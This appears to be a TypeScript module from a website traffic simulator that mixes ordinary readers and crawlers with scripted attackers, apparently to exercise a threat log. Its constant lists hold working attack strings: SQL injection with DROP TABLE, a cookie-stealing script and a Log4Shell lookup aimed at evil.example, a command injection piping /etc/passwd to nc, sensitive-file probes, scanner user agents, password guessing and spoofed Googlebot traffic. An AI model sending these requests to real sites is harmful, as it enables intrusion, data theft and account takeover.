import type { AttackKind } from '@fairway/contract'
import type { Asked } from './asked.ts'
import { browserHeaders, login, pick } from './browsers.ts'
import type { Crowd, Person } from './crowd.ts'

/** Who comes to a website besides its readers. */
export type Stranger = { person: Person; asks: Asked }

const PROBES = [
  '/.env',
  '/.git/config',
  '/wp-login.php',
  '/phpmyadmin/index.php',
  '/v0/users',
  '/cgi-bin/.%2e/.%2e/.%2e/etc/passwd',
  '/actuator/env',
] as const
const INJECTIONS = [
  `/search?q=${encodeURIComponent("' UNION SELECT login, password FROM members -- ")}`,
  `/search?q=${encodeURIComponent("1' OR '1'='1' ; DROP TABLE stories; --")}`,
  `/search?q=${encodeURIComponent('<script>document.location="//evil.example/"+document.cookie</script>')}`,
  `/search?q=${encodeURIComponent('"><img src=x onerror=alert(1)>')}`,
  `/account?next=${encodeURIComponent('${jndi:ldap://evil.example/a}')}`,
  `/search?q=${encodeURIComponent(';cat /etc/passwd|nc evil.example 4444')}`,
] as const
const TOOLS = [
  'sqlmap/1.9.11#stable (https://sqlmap.org)',
  'Mozilla/5.00 (Nikto/2.5.0)',
  'Nuclei - Open-source project',
] as const
const GOOGLEBOT = 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)'
const READERS = [
  'Feedly/1.0 (+https://feedly.com/fetcher.html)',
  'UptimeRobot/2.0 (http://www.uptimerobot.com/)',
] as const
const FEW_PATHS = ['/', '/stories/deep-ice/', '/stories/night-train/', '/world/'] as const
/** Of the search engine's own network. */
const CRAWLER_SUBNET = '66.249.66.0'

const plain = (agent: string): Record<string, string> => ({ 'user-agent': agent, accept: '*/*' })
const read = (path: string, headers: Record<string, string>): Asked => ({ method: 'GET', path, headers })
const guess = (random: () => number): Asked =>
  login(
    browserHeaders(random),
    `reader${Math.floor(random() * 500)}@mailer.example`,
    `Winter${Math.floor(random() * 1e4)}`,
  )

type Kind = { weight: number; from: 'suspects' | 'crowd' | 'crawler'; asks: (random: () => number) => Asked }
const KINDS: readonly Kind[] = [
  { weight: 3, from: 'suspects', asks: (random) => read(pick(INJECTIONS, random), browserHeaders(random)) },
  { weight: 2, from: 'suspects', asks: (random) => read(pick(PROBES, random), plain(pick(TOOLS, random))) },
  { weight: 2, from: 'suspects', asks: guess },
  { weight: 2, from: 'suspects', asks: (random) => read(pick(FEW_PATHS, random), plain('python-requests/2.32.3')) },
  { weight: 1, from: 'crowd', asks: (random) => read(pick(FEW_PATHS, random), plain(GOOGLEBOT)) },
  { weight: 2, from: 'crawler', asks: (random) => read(pick(FEW_PATHS, random), plain(GOOGLEBOT)) },
  { weight: 2, from: 'crowd', asks: (random) => read('/', plain(pick(READERS, random))) },
]
const ATTACKS: Record<AttackKind, (random: () => number) => Asked> = {
  flood: (random) => read(`/?${Math.floor(random() * 1e9)}`, browserHeaders(random)),
  injections: (random) => read(pick(INJECTIONS, random), browserHeaders(random)),
  logins: guess,
}

/** So few that they are known again in the threat log. */
const SUSPECTS = 12

/** Attackers, tools, and crawlers true and false. The same dozen of suspects comes again and again. */
export class Strangers {
  readonly #crowd: Crowd
  readonly #random: () => number
  readonly #suspects: Person[]

  constructor(crowd: Crowd, random: () => number) {
    this.#crowd = crowd
    this.#random = random
    this.#suspects = Array.from({ length: SUSPECTS }, () => crowd.pick(Date.now()))
  }

  /** Somebody of the background noise that every website has. */
  pick(at: number): Stranger {
    let rest = this.#random() * KINDS.reduce((sum, { weight }) => sum + weight, 0)
    const kind = KINDS.find(({ weight }) => (rest -= weight) < 0) ?? KINDS[0]
    if (!kind) throw new Error('there are kinds')
    return { person: this.#personOf(kind.from, at), asks: kind.asks(this.#random) }
  }

  /** One of those who attack together. */
  attacker(kind: AttackKind): Stranger {
    return { person: pick(this.#suspects, this.#random), asks: ATTACKS[kind](this.#random) }
  }

  #personOf(from: Kind['from'], at: number): Person {
    if (from === 'suspects') return pick(this.#suspects, this.#random)
    const person = this.#crowd.pick(at)
    if (from === 'crowd') return person
    const address = CRAWLER_SUBNET.replace(/\d+$/, String(1 + Math.floor(this.#random() * 254)))
    return { ...person, address, subnet: CRAWLER_SUBNET, network: 'AS15169' }
  }
}
